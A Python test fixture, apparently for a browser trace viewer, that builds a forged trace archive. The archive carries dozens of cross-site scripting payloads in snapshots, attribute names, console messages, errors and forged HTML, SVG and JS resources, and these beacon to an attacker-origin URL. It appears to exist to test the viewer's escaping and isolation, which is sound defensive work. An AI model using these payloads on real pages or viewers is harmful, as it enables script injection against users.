"""A trace that somebody made up to harm who looks at it, in every way we could think of."""

from __future__ import annotations

import json
import zipfile
from pathlib import Path
from typing import Any

CALL = "call@1"
LEAVING = "call@2"  # its page sends its own frame away
FRAME = "frame@1"
SITE = "http://shop.test"
FORGED = {
    "evil.html": ("text/html", "<!doctype html><h1>Forged</h1><script>{harm}</script>"),
    "evil.svg": (
        "image/svg+xml",
        '<svg xmlns="http://www.w3.org/2000/svg" onload="{harm}"><script>{harm}</script></svg>',
    ),
    "evil.xhtml": (
        "application/xhtml+xml",
        '<html xmlns="http://www.w3.org/1999/xhtml"><script>{harm}</script></html>',
    ),
    "evil.js": ("text/javascript", "{harm}"),
    "evil.css": ("text/css", "h1 {{ color: rgb(1, 2, 3) }}"),
}
# Becomes part of the page as it stands: the viewer does not escape the names of attributes.
INJECTED = """x><script>{harm}</script>
<script src="{site}/evil.js"></script><script src="/trace-viewer/resources/evil.js"></script>
<script type="module">{harm}</script><svg onload="{harm}"></svg><img src="x:" onerror="{harm}">
<iframe srcdoc="<script>{harm}</script>"></iframe><iframe src="javascript:{harm}"></iframe>
<iframe src="data:text/html,<script>{harm}</script><img src={outside}/frame>"></iframe>
<iframe src="/trace-viewer/file/resources/evil.html?trace={trace}"></iframe><iframe src="/team"></iframe>
<object data="{site}/evil.svg"></object><embed src="{site}/evil.html"><link rel="manifest" href="{site}/evil.js">
<link rel="modulepreload" href="{site}/evil.js"><img src="{outside}/picture"><img src="{site}/moved">
<form action="{outside}/form"><button>Send</button></form><a href="{outside}/link" target="_top">Leave</a>
<base href="{outside}/">{more}<p y"""
REFRESH = '<meta http-equiv="refresh" content="0;url={outside}/refresh">'


def harm(name: str, outside: str) -> str:
    """A script that leaves its mark wherever it can."""
    return (
        f"console.log('harm {name}');new Image().src='{outside}/harm-{name}';fetch('/harm-{name}');"
        f"alert('{name}');localStorage.setItem('harm','{name}')"
    )


def hostile_trace(target: Path, *, outside: str, trace: str) -> None:
    """`outside`: the origin of the attacker. `trace`: where the viewer gets this trace."""

    def injected(more: str) -> str:
        return INJECTED.format(harm=harm("injected", outside), site=SITE, outside=outside, trace=trace, more=more)

    lines = [
        {"version": 10, "type": "context-options", "origin": "library", "browserName": "chromium", "options": {}}
        | {"platform": "linux", "wallTime": 1, "monotonicTime": 1, "sdkLanguage": "python"},
        *_call(CALL, "click", 10, outside, injected("")),
        *_call(LEAVING, "press", 30, outside, injected(REFRESH.format(outside=outside))),
    ]
    with zipfile.ZipFile(target, "w") as file:
        file.writestr("trace.trace", "\n".join(map(json.dumps, lines)))
        file.writestr("trace.network", "\n".join(map(json.dumps, _network(outside))))
        for name, (_, content) in FORGED.items():
            file.writestr(f"resources/{name}", content.format(harm=harm(name, outside)))


def _call(call: str, method: str, at: int, outside: str, injected: str) -> list[dict[str, Any]]:
    said = {"messageType": "error", "text": f"<img src=x: onerror={harm('console', outside)}>"}
    place = {"url": f"javascript:{harm('place', outside)}", "lineNumber": 1, "columnNumber": 1}
    attached = {"name": "evil.html", "contentType": "text/html", "file": "resources/evil.html"}
    error = {"message": f"<script>{harm('error', outside)}</script>"}
    snapshot = {
        "callId": call,
        "html": _html(outside, injected),
        "viewport": {"width": 800, "height": 600},
        "resourceOverrides": [],
        "pageId": "page@1",
        "frameId": FRAME,
        "frameUrl": f"{SITE}/",
        "doctype": "html",
        "isMainFrame": True,
    }
    return [
        {"type": "before", "callId": call, "startTime": at, "class": "Frame", "method": method, "params": {}},
        {"type": "frame-snapshot", "snapshot": {**snapshot, "phase": "before", "timestamp": at + 1}},
        {"type": "console", "time": at + 2, "pageId": "page@1", "location": place, **said},
        {"type": "frame-snapshot", "snapshot": {**snapshot, "phase": "after", "timestamp": at + 9}},
        {"type": "after", "callId": call, "endTime": at + 10, "error": error, "attachments": [attached]},
    ]


def _html(outside: str, injected: str) -> list[Any]:
    frame = {"src": f"javascript:{harm('frame', outside)}", "srcdoc": f"<script>{harm('srcdoc', outside)}</script>"}
    style = ["LINK", {"rel": "stylesheet", "href": f"{SITE}/evil.css"}]
    body = [
        ["H1", {"onclick": harm("click", outside)}, "Forged page"],
        ["IMG", {"src": "x:", "onerror": harm("onerror", outside)}],
        ["IFRAME", frame],
        ["A", {"href": f"javascript:{harm('href', outside)}"}, "a link"],
        ["svg", {"onload": harm("svg", outside)}, ["script", {}, harm("svg-script", outside)]],
        ["P", {injected: "1"}, "the end"],
    ]
    head = ["HEAD", {}, style, ["SCRIPT", {}, harm("script", outside)]]
    return ["HTML", {}, head, ["BODY", {"onload": harm("onload", outside)}, *body]]


def _network(outside: str) -> list[dict[str, Any]]:
    answers = [_answer(name, content_type, 200, []) for name, (content_type, _) in FORGED.items()]
    return [*answers, _answer("moved", "image/png", 302, [{"name": "Location", "value": f"{outside}/moved"}])]


def _answer(name: str, content_type: str, status: int, headers: list[dict[str, str]]) -> dict[str, Any]:
    content = {"size": 1, "mimeType": content_type, "_file": f"resources/{name}"}
    request = {"method": "GET", "url": f"{SITE}/{name}", "headers": [], "queryString": [], "cookies": []}
    response = {"status": status, "statusText": "", "headers": headers, "cookies": [], "content": content}
    times = {"startedDateTime": "2026-01-01T00:00:00Z", "time": 1, "timings": {}, "_monotonicTime": 5}
    return {
        "type": "resource-snapshot",
        "snapshot": {
            "pageref": "page@1",
            "request": request,
            "response": response,
            "_frameref": FRAME,
            "cache": {},
            **times,
        },
    }
